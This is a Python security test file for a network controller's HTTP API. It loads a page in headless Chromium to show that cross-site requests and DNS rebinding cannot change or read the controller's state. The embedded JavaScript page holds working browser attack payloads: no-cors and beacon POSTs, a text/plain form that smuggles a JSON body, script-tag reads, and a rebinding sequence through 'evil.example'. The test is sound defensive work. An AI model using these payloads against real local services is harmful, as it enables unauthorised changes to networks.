# SPDX-License-Identifier: Apache-2.0
"""What a page in a real browser can do to a controller on the same machine: nothing.

The page comes from another address of this machine. The browser is told that ``evil.example`` leads
there; when the page has been loaded, the controller listens at that address instead, which is what
DNS rebinding comes to.
"""

from __future__ import annotations

import asyncio
import json
import shutil
from pathlib import Path
from typing import Any

import pytest

from isthmus.api.http.listening import Listener
from isthmus.api.http.server import ApiServer
from isthmus.api.http.users import set_user
from isthmus.intent.model import JsonObject
from tests.api.conftest import Api
from tests.api.memory_north import SilentHosts

pytestmark = pytest.mark.long

BROWSER = shutil.which("chromium")
PASSWORD = "correct horse battery staple"

PAGE = """<!doctype html><meta charset="utf-8"><title>A page</title><body><script>
const targets = TARGETS;
const written = [];
const pool = JSON.stringify({requests: [{resourceRef: "/macPools/NAME", body: {properties: {
  startMacAddress: "02-00-00-00-00-00", endMacAddress: "02-00-00-00-FF-FF"}}}]});
const answers = {};
async function attempt(name, work) {
  try { answers[name] = String(await work()); }
  catch (error) { answers[name] = "failed: " + error; }
}
function post(where, name, type) {
  const body = new Blob([pool.replace("NAME", name)], type ? {type} : {});
  return fetch(where + "/networking/v1/batch", {
    method: "POST", mode: "no-cors", credentials: "include", body}).then(reply => reply.type);
}
async function attack(label, where) {
  await attempt(label + " without type", () => post(where, label + "-bare"));
  await attempt(label + " as text", () => post(where, label + "-text", "text/plain"));
  await attempt(label + " as a form", () => post(
    where, label + "-form", "application/x-www-form-urlencoded"));
  await attempt(label + " as json", () => fetch(where + "/networking/v1/batch", {
    method: "POST", headers: {"content-type": "application/json"},
    body: pool.replace("NAME", label + "-json")}).then(reply => reply.status));
  await attempt(label + " by beacon", () => navigator.sendBeacon(
    where + "/networking/v1/batch", new Blob([pool.replace("NAME", label + "-beacon")])));
  await attempt(label + " probe", () => fetch(where + "/networking/v1/isthmus/probes", {
    method: "POST", mode: "no-cors"}).then(reply => reply.type));
  await attempt(label + " put", () => fetch(where + "/networking/v1/macPools/" + label + "-put", {
    method: "PUT", body: "{}"}).then(reply => reply.status));
  await attempt(label + " read", () => fetch(where + "/networking/discovery").then(
    reply => reply.text()));
  await attempt(label + " script", () => new Promise((resolve, reject) => {
    const script = document.createElement("script");
    script.src = where + "/networking/discovery";
    script.onload = () => resolve("loaded"); script.onerror = () => resolve("not loaded");
    document.body.append(script); }));
  const form = document.createElement("form"), frame = document.createElement("iframe");
  frame.name = label; form.target = label; form.method = "POST"; form.enctype = "text/plain";
  form.action = where + "/networking/v1/batch";
  const field = document.createElement("input");
  field.name = pool.replace("NAME", label + "-submitted").slice(0, -1) + ', "x": "';
  field.value = '"}'; form.append(field); document.body.append(frame, form);
  await attempt(label + " submitted", () => new Promise(resolve => {
    frame.onload = () => resolve("shown"); form.submit(); setTimeout(resolve, 3000, "slow"); }));
}
(async () => {
  for (const [label, where] of Object.entries(targets)) await attack(label, where);
  const home = HOME;
  await fetch(home + "/leave", {method: "POST", mode: "no-cors"});
  await attack("rebound", "");
  await fetch(home + "/done", {method: "POST", mode: "no-cors", body: JSON.stringify(answers)});
})();
</script>"""


class Site:
    """The page's own server: gives the page, and hears what it says."""

    def __init__(self) -> None:
        self.page = b""
        self.said: dict[str, bytes] = {}
        self.heard = asyncio.Condition()

    async def serve(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        try:
            head = await reader.readuntil(b"\r\n\r\n")
            path = head.split(b" ", 2)[1].decode()
            lengths = [
                int(line.split(b":")[1])
                for line in head.lower().split(b"\r\n")
                if line.startswith(b"content-length:")
            ]
            body = await reader.readexactly(lengths[0] if lengths else 0)
            async with self.heard:
                self.said[path] = body
                self.heard.notify_all()
                if path == "/leave":
                    # answered when the controller listens where the page came from
                    await self.heard.wait_for(lambda: "arrived" in self.said)
            writer.write(
                b"HTTP/1.1 200 OK\r\ncontent-type: text/html\r\nconnection: close\r\n"
                b"content-length: %d\r\n\r\n%s" % (len(self.page), self.page)
            )
            await writer.drain()
        finally:
            writer.close()

    async def hears(self, path: str) -> bytes:
        async with self.heard:
            await self.heard.wait_for(lambda: path in self.said)
        return self.said[path]


class Probed(SilentHosts):
    """Counts how often hosts would have been asked."""

    raised = 0

    async def raise_probe(self) -> JsonObject:
        self.raised += 1
        return {"probe": self.raised, "hosts": []}


async def browse(folder: Path, *arguments: str) -> asyncio.subprocess.Process:
    """A browser of its own, without a window."""
    assert BROWSER is not None
    return await asyncio.create_subprocess_exec(
        *(BROWSER, "--headless", "--no-sandbox", "--disable-gpu", "--disable-quic"),
        *("--no-first-run", "--disable-background-networking", "--disable-component-update"),
        *("--disable-sync", f"--user-data-dir={folder}"),
        # The names of the world lead nowhere, so that nothing leaves this machine.
        "--host-resolver-rules=MAP evil.example 127.0.0.9, MAP * ~NOTFOUND , EXCLUDE 127.0.0.*",
        *arguments,
        stdout=asyncio.subprocess.PIPE,
        stderr=asyncio.subprocess.DEVNULL,
    )


async def ended(browser: asyncio.subprocess.Process) -> None:
    if browser.returncode is None:
        browser.terminate()
    await browser.wait()


def pools(api: Api) -> set[str]:
    return {row.resource_id for row in api.north.view.collection("macPools")}


async def attacked(api: Api, folder: Path) -> dict[str, Any]:
    """What a page says of its attempts on a controller's listeners."""
    site = Site()
    home = await asyncio.start_server(site.serve, "127.0.0.8", 0)
    door = await asyncio.start_server(site.serve, "127.0.0.9", 0)
    port = door.sockets[0].getsockname()[1]
    set_user(folder / "users", "ann", PASSWORD)
    controller = ApiServer(
        api.app,
        [Listener("127.0.0.1:0"), Listener("127.0.0.1:0", users=folder / "users")],
    )
    await controller.start()
    open_url, users_url = controller.urls
    targets = {
        "address": open_url,
        "name": open_url.replace("127.0.0.1", "localhost"),
        "password": users_url,
    }
    at_home = f"http://127.0.0.8:{home.sockets[0].getsockname()[1]}"
    site.page = (
        PAGE.replace("TARGETS", json.dumps(targets)).replace("HOME", json.dumps(at_home)).encode()
    )
    rebound = ApiServer(api.app, [Listener(f"127.0.0.9:{port}")])
    browser = await browse(folder / "browser", f"http://evil.example:{port}/")
    try:
        async with asyncio.timeout(240):
            await site.hears("/leave")
            door.close()
            await rebound.start()
            async with site.heard:
                site.said["arrived"] = b""
                site.heard.notify_all()
            found: dict[str, Any] = json.loads(await site.hears("/done"))
            return found
    finally:
        await ended(browser)
        home.close()
        await controller.stop()
        await rebound.stop()


def test_a_page_changes_nothing_and_reads_nothing(tmp_path: Path) -> None:
    assert BROWSER, "this test needs chromium: packaging/install-packages --long installs it"
    hosts = Probed()
    api = Api(hosts)
    answers = asyncio.run(attacked(api, tmp_path))
    assert pools(api) == set(), answers
    assert hosts.raised == 0, answers
    # Reading needs a leave that is never given, or the page is told that it is refused.
    read = {name: text for name, text in answers.items() if "networkControllerVersion" in text}
    assert not read, read
    # The attempts have come so far: the controller has refused them, and not the browser.
    assert answers["address without type"] == "opaque", answers
    assert answers["rebound as json"] == "403", answers


def test_a_person_may_look_with_a_browser(tmp_path: Path) -> None:
    assert BROWSER, "this test needs chromium: packaging/install-packages --long installs it"

    async def go() -> bytes:
        server = ApiServer(Api().app, [Listener("127.0.0.1:0")])
        await server.start()
        browser = await browse(
            tmp_path / "browser", "--dump-dom", f"{server.urls[0]}/networking/discovery"
        )
        try:
            async with asyncio.timeout(120):
                shown, _ = await browser.communicate()
        finally:
            await ended(browser)
            await server.stop()
        return shown

    assert b"networkControllerVersion" in asyncio.run(go())
